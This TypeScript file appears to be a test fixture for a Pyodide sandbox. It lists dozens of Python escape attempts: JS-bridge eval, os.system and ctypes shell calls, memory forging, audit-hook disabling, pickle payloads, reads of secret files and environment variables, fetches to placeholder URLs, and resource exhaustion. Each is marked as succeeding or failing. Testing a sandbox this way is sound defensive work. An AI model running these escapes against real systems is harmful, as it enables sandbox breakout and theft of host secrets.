/**
 * Ways out of Python, as detections would try them: bodies of a function, grouped by theme. The names in capitals are
 * given to them, see world.ts. `control` says what the same lines do in a plain Pyodide; a test holds it to that.
 */
export interface Attempt {
  readonly name: string
  /** Body of the Python function; what it returns is looked through for secrets. */
  readonly code: string
  readonly control: 'reaches the host' | `fails everywhere: ${string}`
}

const reaches = (name: string, code: string): Attempt => ({ name, code, control: 'reaches the host' })
const fails = (why: string, name: string, code: string): Attempt => ({
  name,
  code,
  control: `fails everywhere: ${why}`,
})

const NO_SOCKETS = 'WebAssembly has no sockets of its own'
const NO_PROCESSES = 'Emscripten can start no process'
const NO_HOST_FILES = 'nothing of the host is mounted'

export const ATTEMPTS: Record<string, readonly Attempt[]> = {
  'the bridge after it was taken away': [
    reaches(
      'finder on sys.meta_path',
      `
      import sys
      finder = next(each for each in sys.meta_path if hasattr(each, "jsproxies"))
      finder.jsproxies["js"].eval(JS)`,
    ),
    reaches(
      'the import hook',
      'from _pyodide._importhook import jsfinder; jsfinder.jsproxies["js"].eval(JS)',
    ),
    reaches(
      'any finder that knows js',
      `
      import gc, sys
      finders = [each for each in gc.get_objects() if hasattr(type(each), "find_spec")]
      spec = next(spec for each in [*sys.meta_path, *finders] if (spec := each.find_spec("js", None)))
      import importlib._bootstrap as bootstrap
      bootstrap._load(spec).eval(JS)`,
    ),
    reaches(
      '_imp.create_builtin',
      `
      import _imp, importlib.machinery as machinery
      core = _imp.create_builtin(machinery.ModuleSpec("_pyodide_core", machinery.BuiltinImporter))
      core.to_js([]).constructor.constructor(JS)()`,
    ),
    reaches(
      'BuiltinImporter',
      `
      import importlib.machinery as machinery
      core = machinery.BuiltinImporter.load_module("_pyodide_core")
      core.to_js([]).constructor.constructor(JS)()`,
    ),
    reaches(
      'imported again after a purge',
      `
      import sys
      kept = dict(sys.modules)
      for name in kept:
          if name.startswith("pyodide."): sys.modules.pop(name)
      try:
          from pyodide.ffi import to_js
          to_js([]).constructor.constructor(JS)()
      finally: sys.modules.update(kept)`,
    ),
    reaches(
      'runpy',
      'import runpy; runpy.run_module("pyodide.webloop")["scheduleCallback"].constructor(JS)()',
    ),
    reaches(
      'zipimport under another name',
      `
      import sys, zipimport
      path = next(each for each in sys.path if each.endswith(".zip"))
      code = zipimport.zipimporter(path).get_code("pyodide/webloop")
      scope = {"__name__": "innocent", "__package__": "pyodide"}
      exec(code, scope)
      scope["scheduleCallback"].constructor(JS)()`,
    ),
    reaches(
      'garbage collector: every proxy alive',
      `
      import gc
      dicts = [each for each in gc.get_objects() if isinstance(each, dict)]
      proxies = [value for each in dicts for value in each.values() if hasattr(type(value), "js_id")]
      for each in proxies: each.constructor.constructor(JS)()`,
    ),
    reaches(
      'garbage collector: modules that left sys.modules',
      `
      import gc, types
      modules = {each.__name__: each for each in gc.get_objects() if isinstance(each, types.ModuleType)}
      modules["_pyodide_core"].to_js([]).constructor.constructor(JS)()`,
    ),
    reaches(
      'garbage collector: functions and their globals',
      `
      import gc, types
      for each in gc.get_objects():
          if isinstance(each, types.FunctionType) and "scheduleCallback" in each.__globals__:
              each.__globals__["scheduleCallback"].constructor(JS)()`,
    ),
    reaches(
      'subclasses to the bridge',
      `
      def below(cls):
          for each in type.__subclasses__(cls): yield each; yield from below(each)
      for each in below(object):
          found = getattr(getattr(each, "__init__", None), "__globals__", {})
          if "scheduleCallback" in found: found["scheduleCallback"].constructor(JS)()`,
    ),
    reaches('the event loop', 'import asyncio; asyncio.get_event_loop().call_soon(by_shell)'),
    reaches('a task of the event loop', 'import asyncio; asyncio.ensure_future(later(by_shell))'),
  ],

  'native code': [
    reaches('ctypes: system', 'import ctypes; ctypes.CDLL(None).system(SHELL.encode())'),
    reaches('ctypes: run_script', 'import ctypes; ctypes.CDLL(None).emscripten_run_script(JS.encode())'),
    reaches(
      'ctypes: run_script_string',
      'import ctypes; ctypes.CDLL(None).emscripten_run_script_string(JS.encode())',
    ),
    reaches(
      'ctypes: the interpreter itself',
      'import ctypes; ctypes.pythonapi.PyRun_SimpleString(("import os; os.system(" + repr(SHELL) + ")").encode())',
    ),
    reaches(
      'ctypes: getenv',
      `
      import ctypes
      getenv = ctypes.CDLL(None).getenv
      getenv.restype = ctypes.c_char_p
      return getenv(ENV.encode())`,
    ),
    reaches(
      '_ctypes made by hand, dlsym',
      createBuiltin(
        '_ctypes',
        `
      class Native(made.CFuncPtr): _flags_ = 1
      number = made.dlsym(made.dlopen(None, 0), "system")
      Native(number)(SHELL.encode())`,
      ),
    ),
    reaches(
      '_ctypes made by hand, a function by its number',
      createBuiltin(
        '_ctypes',
        `
      class Native(made.CFuncPtr): _flags_ = 1
      try: number = made.dlsym(made.dlopen(None, 0), "system")
      except Exception: number = 1
      Native(number)(SHELL.encode())`,
      ),
    ),
    fails('no library of the host can be loaded', 'dlopen', 'import ctypes; ctypes.CDLL("/lib/libc.so.6")'),
    fails(
      'an extension module is a library',
      'ExtensionFileLoader',
      `
      import importlib.machinery as machinery
      spec = machinery.ModuleSpec("evil", None, origin=CANARY)
      return machinery.ExtensionFileLoader("evil", CANARY).create_module(spec)`,
    ),
    fails(
      'sqlite sees the files of the interpreter',
      'sqlite3',
      'import sqlite3; sqlite3.connect(CANARY).execute("create table t(a)")',
    ),
    reaches(
      'a method definition forged in memory',
      createBuiltin(
        '_ctypes',
        `
      import struct, time
      class Word(made._SimpleCData): _type_ = "I"
      try: number = made.dlsym(made.dlopen(None, 0), "system")
      except Exception: number = 1
      command = SHELL.encode() + bytes(1)
      METH_NOARGS, BYTES_AT = 4, 16
      definition = struct.pack("IIII", id(command) + BYTES_AT, number, METH_NOARGS, 0)
      victim = time.process_time
      kept = [Word.from_address(id(victim) + at).value for at in (8, 12)]
      Word.from_address(id(victim) + 8).value = id(definition) + BYTES_AT
      Word.from_address(id(victim) + 12).value = id(command) + BYTES_AT
      try: victim()
      finally:
          for at, value in zip((8, 12), kept): Word.from_address(id(victim) + at).value = value`,
      ),
    ),
  ],

  'hooks of the interpreter': [
    reaches(
      'sys.settrace',
      'import sys; sys.settrace(lambda *_: by_shell()); (lambda: 0)(); sys.settrace(None)',
    ),
    reaches(
      'sys.setprofile',
      'import sys; sys.setprofile(lambda *_: (sys.setprofile(None), by_shell())); len([])',
    ),
    reaches(
      'sys.monitoring',
      `
      import sys
      watch = sys.monitoring
      watch.use_tool_id(4, "canary")
      watch.register_callback(4, watch.events.PY_START, lambda *_: by_shell())
      watch.set_events(4, watch.events.PY_START)
      try: (lambda: 0)()
      finally: watch.set_events(4, 0); watch.free_tool_id(4)`,
    ),
    reaches(
      'an audit hook of its own',
      `
      import sys
      seen = []
      def hook(event, args):
          if not seen and not seen.append(event): by_shell()
      sys.addaudithook(hook)
      compile("1", "x", "eval")`,
    ),
    reaches(
      'the audit hook emptied',
      `
      try:
          import signalbox_driver.sandbox as sandbox
          sandbox._ACTIONS = sandbox._BRIDGES = ()
          sandbox._audit.__code__ = (lambda event, args: None).__code__
      finally: by_shell()`,
    ),
    reaches(
      'the audit hook emptied, then the bridge',
      `
      import signalbox_driver.sandbox as sandbox
      sandbox._ACTIONS = sandbox._BRIDGES = ()
      sandbox._audit.__code__ = (lambda event, args: None).__code__
      import _pyodide_core
      _pyodide_core.to_js([]).constructor.constructor(JS)()`,
    ),
    reaches(
      'the audit hook emptied, then ctypes',
      `
      import signalbox_driver.sandbox as sandbox
      sandbox._ACTIONS = sandbox._BRIDGES = ()
      sandbox._audit.__code__ = (lambda event, args: None).__code__
      import ctypes
      ctypes.CDLL(None).system(SHELL.encode())`,
    ),
    reaches(
      'a signal handler',
      `
      import signal
      before = signal.signal(signal.SIGUSR1, lambda *_: by_shell())
      signal.raise_signal(signal.SIGUSR1)`,
    ),
    reaches('atexit', 'import atexit; atexit.register(by_shell); atexit._run_exitfuncs()'),
    reaches(
      'garbage collector callbacks',
      `
      import gc
      def callback(*_): gc.callbacks.remove(callback); by_shell()
      gc.callbacks.append(callback)
      gc.collect()`,
    ),
    reaches(
      'sys.unraisablehook',
      `
      import sys
      class Noisy:
          def __del__(self): 1 / 0
      sys.unraisablehook = lambda _: by_shell()
      Noisy()
      sys.unraisablehook = sys.__unraisablehook__`,
    ),
    reaches(
      'sys.excepthook and displayhook',
      'import sys; sys.displayhook = lambda _: by_shell(); exec(compile("1", "x", "single"))',
    ),
    reaches(
      'a finder of its own',
      `
      import sys
      class Finder:
          def find_spec(self, name, path=None, target=None):
              if name == "canary_module": by_shell()
      sys.meta_path.append(Finder())
      try: import canary_module
      finally: sys.meta_path.pop()`,
    ),
    reaches(
      'a path hook of its own',
      `
      import sys
      def hook(path):
          if path == "canary": by_shell()
          raise ImportError
      sys.path_hooks.append(hook)
      sys.path.append("canary")
      try: import canary_module
      finally: sys.path.pop(); sys.path_hooks.pop()`,
    ),
    fails('there is no timer in WebAssembly', 'signal.alarm', 'import signal; signal.alarm(1)'),
    fails(
      'it writes to the files of the interpreter',
      'faulthandler',
      'import faulthandler; faulthandler.dump_traceback(open(CANARY, "w"))',
    ),
  ],

  'the bridge to JavaScript': [
    reaches('js.eval', 'import js; js.eval(JS)'),
    reaches('js.Function', 'from js import Function; Function.new(JS)()'),
    reaches('js.process', 'import js; js.process.getBuiltinModule("fs").writeFileSync(CANARY, "reached")'),
    reaches('js by a computed name', '__import__("".join(["j", "s"])).eval(JS)'),
    reaches('importlib.import_module', 'import importlib; importlib.import_module("js").eval(JS)'),
    reaches('run_js', 'from pyodide.code import run_js; run_js(JS)'),
    reaches('pyodide_js constructor', 'import pyodide_js; pyodide_js._api.constructor.constructor(JS)()'),
    reaches('sys.modules', 'import sys; sys.modules["pyodide_js"]._api.constructor.constructor(JS)()'),
    reaches('to_js constructor', 'from pyodide.ffi import to_js; to_js([]).constructor.constructor(JS)()'),
    reaches(
      'create_proxy constructor',
      'from pyodide.ffi import create_proxy; create_proxy(print).constructor.constructor(JS)()',
    ),
    reaches('_pyodide_core', 'import _pyodide_core; _pyodide_core.to_js([]).constructor.constructor(JS)()'),
    reaches(
      'webloop.scheduleCallback',
      'import pyodide.webloop as webloop; webloop.scheduleCallback.constructor(JS)()',
    ),
    reaches(
      'prototype pollution',
      `
      import js
      js.Object.prototype.canary = CANARY
      try: js.process.getBuiltinModule("fs").writeFileSync(js.Object.new().canary, "reached")
      finally: js.Reflect.deleteProperty(js.Object.prototype, "canary")`,
    ),
    reaches(
      'a JavaScript module of its own',
      'import pyodide_js, js; pyodide_js.registerJsModule("mine", js.process); import mine; mine.getBuiltinModule("fs").writeFileSync(CANARY, "")',
    ),
  ],

  'shell and processes': [
    reaches('os.system', 'import os; os.system(SHELL)'),
    reaches('posix.system', 'import posix; posix.system(SHELL)'),
    reaches('os through another module', 'import tempfile; tempfile._os.system(SHELL)'),
    reaches('os._wrap_close', 'import os; os._wrap_close.__init__.__globals__["system"](SHELL)'),
    reaches(
      'subclasses to system',
      `
      for each in object.__subclasses__():
          found = getattr(getattr(each, "__init__", None), "__globals__", {})
          if "system" in found: found["system"](SHELL)`,
    ),
    reaches(
      'the frames of the driver',
      `
      import sys
      frame = sys._getframe()
      while frame.f_back: frame = frame.f_back
      frame.f_builtins["__import__"]("posix").system(SHELL)`,
    ),
    reaches(
      'the frames of a traceback',
      `
      try: 1 / 0
      except ZeroDivisionError as error:
          error.__traceback__.tb_frame.f_back.f_globals["__builtins__"]
          import builtins; builtins.__import__("os").system(SHELL)`,
    ),
    reaches(
      'the frame of a generator',
      `
      running = (running.gi_frame.f_back.f_builtins["__import__"]("os").system(SHELL) for _ in [1])
      list(running)`,
    ),
    reaches(
      'builtins that were put back',
      `
      import builtins
      scope = {"__builtins__": dict(vars(builtins))}
      exec("import os; os.system(" + repr(SHELL) + ")", scope)`,
    ),
    reaches('_imp.create_builtin of posix', createBuiltin('posix', 'made.system(SHELL)')),
    fails(NO_PROCESSES, 'os.popen', 'import os; return os.popen(SHELL).read()'),
    fails(NO_PROCESSES, 'subprocess', 'import subprocess; subprocess.run(SHELL, shell=True)'),
    fails(NO_PROCESSES, 'fork_exec', 'import _posixsubprocess as sub; sub.fork_exec([b"sh"], [b"/bin/sh"])'),
    fails(NO_PROCESSES, 'os.execv', 'import os; os.execv("/bin/sh", ["sh", "-c", SHELL])'),
    fails(NO_PROCESSES, 'os.posix_spawn', 'import os; os.posix_spawn("/bin/sh", ["sh", "-c", SHELL], {})'),
    fails(NO_PROCESSES, 'os.spawnv', 'import os; os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", SHELL])'),
    fails(NO_PROCESSES, 'os.fork', 'import os; os.fork() or os.system(SHELL)'),
    fails(NO_PROCESSES, 'pty.spawn', 'import pty; pty.spawn(["/bin/sh", "-c", SHELL])'),
    fails(
      NO_PROCESSES,
      'multiprocessing',
      'import multiprocessing; multiprocessing.Process(target=by_shell).start()',
    ),
    fails(NO_PROCESSES, 'threading', 'import threading; threading.Thread(target=by_shell).start()'),
    fails(NO_PROCESSES, 'a program for a link', 'import webbrowser; webbrowser.open(URL)'),
    fails(NO_PROCESSES, 'sys.remote_exec', 'import os, sys; sys.remote_exec(os.getppid(), CANARY)'),
  ],

  'crafted code and data': [
    reaches(
      'pickle',
      'import os, pickle; pickle.loads(b"cposix\\nsystem\\n(V" + SHELL.encode() + b"\\ntR.")',
    ),
    reaches(
      'marshal',
      `
      import marshal
      code = marshal.dumps(compile("__import__('os').system(SHELL)", "innocent", "exec"))
      exec(marshal.loads(code), {"SHELL": SHELL})`,
    ),
    reaches(
      'names changed in a code object',
      `
      def innocent(): import math; math.sqrt(SHELL)
      names = {"math": "posix", "sqrt": "system"}
      code = innocent.__code__
      changed = code.replace(
          co_names=tuple(names.get(each, each) for each in code.co_names),
          co_varnames=tuple(names.get(each, each) for each in code.co_varnames))
      import types
      types.FunctionType(changed, globals())()`,
    ),
    reaches(
      'a constant beyond its table',
      `
      def innocent(): return "constant"
      found = innocent.__code__.replace(co_consts=(len,) * 300)
      import types
      try: types.FunctionType(found, globals())()
      finally: by_shell()`,
    ),
    reaches(
      'a codec',
      `
      import codecs
      def search(name):
          if name == "canary": by_shell()
      codecs.register(search)
      "".encode("canary")`,
    ),
    reaches('string formatting', 'return by_shell() or "{0.__globals__[SHELL]}".format(by_shell)'),
    reaches(
      'compile of a tree',
      'import ast; eval(compile(ast.parse("by_shell()", mode="eval"), "x", "eval"))',
    ),
    reaches(
      'a class that is torn down',
      `
      class Last:
          def __del__(self): by_shell()
      Last()`,
    ),
    reaches('weakref.finalize', 'import weakref; weakref.finalize(type("Gone", (), {})(), by_shell)'),
    reaches(
      'functools.singledispatch',
      'import functools; functools.reduce(lambda a, b: by_shell(), [1, 2])',
    ),
  ],

  'files of the host': [
    reaches(
      'node:fs',
      'import js; return js.process.getBuiltinModule("fs").readFileSync(SECRET_FILE, "utf8")',
    ),
    reaches(
      'the key of the snapshot cache',
      'import js; return js.process.getBuiltinModule("fs").readFileSync(KEY_FILE, "latin1")',
    ),
    reaches(
      'FS.mount',
      `
      import os, pyodide_js, js
      os.makedirs("/host", exist_ok=True)
      pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, js.eval("({root: '/'})"), "/host")
      try: return open("/host" + SECRET_FILE).read()
      finally: pyodide_js.FS.unmount("/host")`,
    ),
    reaches(
      'mountNodeFS',
      `
      import pyodide_js
      pyodide_js.mountNodeFS("/host-too", "/")
      try: open("/host-too" + CANARY, "w").close()
      finally: pyodide_js.FS.unmount("/host-too")`,
    ),
    reaches('standard input', 'return input()'),
    reaches('standard input below sys', 'import os; return os.read(os.open("/dev/stdin", os.O_RDONLY), 128)'),
    reaches('the terminal', 'return open("/dev/tty").read(128)'),
    reaches('cp', 'import os; os.system("cp " + SECRET_FILE + " " + CANARY)'),
    fails(NO_HOST_FILES, 'open', 'return open(SECRET_FILE).read()'),
    fails(NO_HOST_FILES, 'os.open', 'import os; return os.read(os.open(SECRET_FILE, os.O_RDONLY), 99)'),
    fails(NO_HOST_FILES, 'io.open_code', 'import io; return io.open_code(SECRET_FILE).read()'),
    fails(NO_HOST_FILES, 'the passwords', 'return open("/etc/passwd").read()'),
    fails(NO_HOST_FILES, 'listing', 'import os; return os.listdir(os.path.dirname(SECRET_FILE))'),
    fails(
      NO_HOST_FILES,
      'the working directory',
      'import os; return open(os.getcwd() + "/package.json").read()',
    ),
    fails(
      NO_HOST_FILES,
      '/proc',
      'return open("/proc/self/environ").read() + open("/proc/1/environ").read()',
    ),
    fails(
      NO_HOST_FILES,
      'a link',
      'import os; os.symlink(SECRET_FILE, "/home/link"); return open("/home/link").read()',
    ),
    fails(NO_HOST_FILES, 'writing', 'open(CANARY, "w").write("reached")'),
    fails(
      NO_HOST_FILES,
      'writing below open()',
      'import os; os.write(os.open(CANARY, os.O_CREAT | os.O_WRONLY), b"reached")',
    ),
    fails(
      NO_HOST_FILES,
      'a log file',
      'import logging; logging.FileHandler(CANARY).emit(logging.makeLogRecord({}))',
    ),
    fails(
      NO_HOST_FILES,
      'mmap',
      'import mmap, os; return mmap.mmap(os.open(SECRET_FILE, 0), 0, access=1)[:]',
    ),
    fails(NO_HOST_FILES, 'an archive', 'import shutil; shutil.make_archive(CANARY, "tar", "/home")'),
  ],

  environment: [
    reaches('os.environ', 'import os; return dict(os.environ)'),
    reaches('posix.environ', 'import posix; return posix.environ'),
    reaches('os.reload_environ', 'import os; os.reload_environ(); return dict(os.environ)'),
    reaches('process.env', 'import js; return js.eval("JSON.stringify(process.env)")'),
    reaches('env in a shell', 'import os; os.system("echo $" + ENV + " > " + CANARY)'),
    reaches('Deno, Bun or Node, whichever', 'import pyodide_js; return pyodide_js._module.ENV.to_py()'),
  ],

  network: [
    reaches('js.fetch', 'import js; js.fetch(URL)'),
    reaches('js.WebSocket', 'import js; js.WebSocket.new(URL.replace("http", "ws"))'),
    reaches(
      'pyfetch',
      'import asyncio; from pyodide.http import pyfetch; asyncio.ensure_future(pyfetch(URL))',
    ),
    reaches('fetch of a proxy', 'from pyodide.ffi import to_js; to_js([]).constructor.constructor(FETCH)()'),
    reaches('loadPackage', 'import pyodide_js; pyodide_js.loadPackage(URL + "/evil-1-py3-none-any.whl")'),
    reaches('a program that fetches', 'import os; os.system(FETCH_SHELL)'),
    fails(
      NO_SOCKETS,
      'socket',
      'import socket; socket.create_connection(("127.0.0.1", PORT)).send(b"GET / HTTP/1.0")',
    ),
    fails(
      NO_SOCKETS,
      '_socket made by hand',
      createBuiltin('_socket', 'made.socket().connect(("127.0.0.1", PORT))'),
    ),
    fails(
      NO_SOCKETS,
      'datagrams',
      'import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT))',
    ),
    fails(NO_SOCKETS, 'a server', 'import socket; socket.create_server(("127.0.0.1", 0)).accept()'),
    fails(NO_SOCKETS, 'urllib', 'import urllib.request; return urllib.request.urlopen(URL).read()'),
    fails(
      NO_SOCKETS,
      'http.client',
      'import http.client; http.client.HTTPConnection("127.0.0.1", PORT).request("GET", "/")',
    ),
    fails(NO_SOCKETS, 'asyncio', 'import asyncio; asyncio.run(asyncio.open_connection("127.0.0.1", PORT))'),
    fails(NO_SOCKETS, 'smtplib', 'import smtplib; smtplib.SMTP("127.0.0.1", PORT)'),
    fails(NO_SOCKETS, 'xmlrpc', 'import xmlrpc.client; xmlrpc.client.ServerProxy(URL).canary()'),
    fails('the stand-in answers offline', 'requests', 'import requests; return requests.get(URL).text'),
    fails(
      'Node has none',
      'XMLHttpRequest',
      'from pyodide.http import open_url; return open_url(URL).read()',
    ),
  ],

  'files of the interpreter, which other workers and later starts read': [
    reaches(
      'O_PATH',
      `
      import os
      from signalbox_driver import batch
      if os.write(os.open(batch.__file__, O_PATH), b"# x") == 3: return WROTE`,
    ),
    reaches(
      'the number of standard output',
      `
      import os
      from signalbox_driver import batch
      os.close(1)
      os.open(batch.__file__, O_PATH)
      if os.write(1, b"# x") == 3: return WROTE`,
    ),
    reaches(
      'O_PATH, for writev',
      `
      import os
      from signalbox_driver import batch
      if os.writev(os.open(batch.__file__, O_PATH), [b"# ", b"x"]) == 3: return WROTE`,
    ),
    reaches(
      'O_PATH, for pwrite',
      `
      import os
      from signalbox_driver import batch
      if os.pwrite(os.open(batch.__file__, O_PATH), b"# x", 0) == 3: return WROTE`,
    ),
    reaches(
      'any flag but those for writing',
      `
      import os
      from signalbox_driver import batch
      for bit in range(31):
          if 1 << bit & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC): continue
          try:
              if os.write(os.open(batch.__file__, 1 << bit), b"# x") == 3: return WROTE
          except Exception: pass`,
    ),
    reaches(
      'a copy of a descriptor',
      `
      import fcntl, os
      from signalbox_driver import batch
      file = fcntl.fcntl(os.open(batch.__file__, O_PATH), fcntl.F_DUPFD, 50)
      if os.write(file, b"# x") == 3: return WROTE`,
    ),
    reaches(
      'the mode of a file',
      `
      import os
      from signalbox_driver import batch
      os.chmod(batch.__file__, 0o777)
      if os.stat(batch.__file__).st_mode & 0o777 == 0o777: return WROTE`,
    ),
    reaches(
      'the time of a file',
      `
      import os
      from signalbox_driver import batch
      os.utime(batch.__file__, (0, 0))
      if os.stat(batch.__file__).st_mtime == 0: return WROTE`,
    ),
    reaches(
      'another file in its place',
      `
      import os
      from signalbox_driver import captured_output
      os.symlink("/dev/null", "/home/other")
      os.rename("/home/other", captured_output.__file__)
      if os.path.islink(captured_output.__file__): return WROTE`,
    ),
    reaches(
      'a folder beside it',
      'import os; os.mkdir("/lib/canary"); return WROTE if os.path.isdir("/lib/canary") else None',
    ),
  ],

  'memory of the host, beyond the limit of the interpreter': [
    reaches(
      'a file that grows',
      `
      import os
      file = os.open("/home/canary", os.O_CREAT | os.O_WRONLY)
      return f"GREW {sum(os.write(file, bytes(10**6)) for _ in range(20))}"`,
    ),
    reaches(
      'a file made writable after it was opened',
      `
      import fcntl, os
      from signalbox_driver import batch
      file = os.open(batch.__file__, os.O_RDONLY)
      fcntl.fcntl(file, fcntl.F_SETFL, os.O_RDWR)
      os.lseek(file, 0, os.SEEK_END)
      return f"GREW {sum(os.write(file, bytes(10**6)) for _ in range(20))}"`,
    ),
    reaches(
      'a file made long',
      `
      import os
      from signalbox_driver import progress
      os.truncate(progress.__file__, 10**8)
      return f"GREW {os.stat(progress.__file__).st_size}"`,
    ),
    reaches(
      'a file that grows through O_PATH',
      `
      import os
      from signalbox_driver import progress
      file = os.open(progress.__file__, O_PATH)
      os.lseek(file, 0, os.SEEK_END)
      return f"GREW {sum(os.write(file, bytes(10**6)) for _ in range(20))}"`,
    ),
    reaches('a long path to look at', 'import os; os.stat(b"./" * 5_000_000); return f"GREW {10**7}"'),
    reaches('a long path to list', 'import os; os.listdir(b"./" * 5_000_000); return f"GREW {10**7}"'),
    reaches(
      'a long path below an open folder',
      'import os; os.stat(b"./" * 5_000_000, dir_fd=os.open("/", 0)); return f"GREW {10**7}"',
    ),
    reaches(
      'open files without end',
      `
      import os
      files = [os.open("/", os.O_RDONLY) for _ in range(2000)]
      return f"GREW {len(files) * 10**4}"`,
    ),
    reaches(
      'a terminal that waits for the end of the line',
      'import os; return f"GREW {os.write(os.open(\'/dev/tty\', os.O_WRONLY), bytes(10**7))}"',
    ),
  ],
}

/** A builtin module made below the import system, which no audit sees. */
function createBuiltin(module: string, use: string): string {
  return `
      import _imp, importlib.machinery as machinery
      made = _imp.create_builtin(machinery.ModuleSpec("${module}", machinery.BuiltinImporter))
      _imp.exec_builtin(made)
      ${use.trim()}`
}
